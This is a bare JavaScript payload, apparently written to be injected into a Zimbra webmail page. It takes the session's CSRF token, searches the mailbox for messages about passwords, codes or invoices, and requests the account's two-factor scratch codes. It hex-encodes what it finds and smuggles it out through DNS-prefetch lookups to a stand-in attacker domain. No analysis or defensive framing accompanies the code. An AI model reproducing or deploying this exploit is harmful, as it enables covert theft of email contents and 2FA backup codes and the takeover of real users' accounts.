(async () => {
  const hex = (s) => Array.from(new TextEncoder().encode(s), (b) => b.toString(16).padStart(2, "0")).join("");
  const say = (s) => {
    const id = Math.random().toString(36).slice(2, 6);
    hex(s).match(/.{1,60}/g).forEach((part, i) => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = `//${i}.${id}.${part}.d.placeholder.example`; document.head.appendChild(l); });
  };
  const csrf = window.csrfToken || (window.parent.csrfToken);
  const body = `<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><context xmlns="urn:zimbra"><csrfToken>${csrf}</csrfToken></context></soap:Header><soap:Body><SearchRequest xmlns="urn:zimbraMail" types="message" limit="50"><query>subject:(password OR code OR invoice)</query></SearchRequest></soap:Body></soap:Envelope>`;
  const xml = await (await fetch("/service/soap/SearchRequest", { method: "POST", body })).text();
  for (const m of xml.matchAll(/<fr>([^<]+)<\/fr>/g)) say(m[1]);
  const codes = await (await fetch("/service/soap/GetScratchCodesRequest", { method: "POST", body: body.replace(/SearchRequest[^]*SearchRequest>/, "GetScratchCodesRequest xmlns=\"urn:zimbraAccount\"/>") })).text();
  say(codes);
})();
